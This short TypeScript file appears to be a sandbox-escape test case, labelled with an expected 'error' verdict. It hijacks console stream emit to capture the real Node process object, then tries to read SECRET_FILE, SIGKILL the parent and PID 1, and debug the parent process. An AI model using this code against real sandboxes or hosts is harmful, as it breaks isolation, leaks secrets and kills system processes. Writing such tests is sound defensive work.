// Attempts to dig out the real process, and to reach others with it.
// Verdict: error
async function dugOut(): Promise<any> {
  let real: unknown;
  let events = (console as any)._stdout;
  while (!Object.hasOwn(events, "emit")) events = Object.getPrototypeOf(events);
  const { emit } = events;
  events.emit = function (...input: unknown[]) {
    if ("reallyExit" in this) real = this;
    return emit.apply(this, input);
  };
  void Promise.reject(new Error("a bait"));
  while (!real) await new Promise((resolve) => setTimeout(resolve, 1));
  events.emit = emit;
  return real;
}
async function scale() {
  const { ppid, pid, kill, _debugProcess, mainModule, getBuiltinModule } = await dugOut();
  const fs = mainModule?.require("fs") ?? getBuiltinModule?.("fs");
  if (fs) throw new Error(fs.readFileSync("SECRET_FILE", "utf8"));
  for (const other of [ppid, 1, 0, -1]) if (other !== pid) kill?.(other, "SIGKILL");
  _debugProcess?.(ppid);
  throw new Error("alone");
}
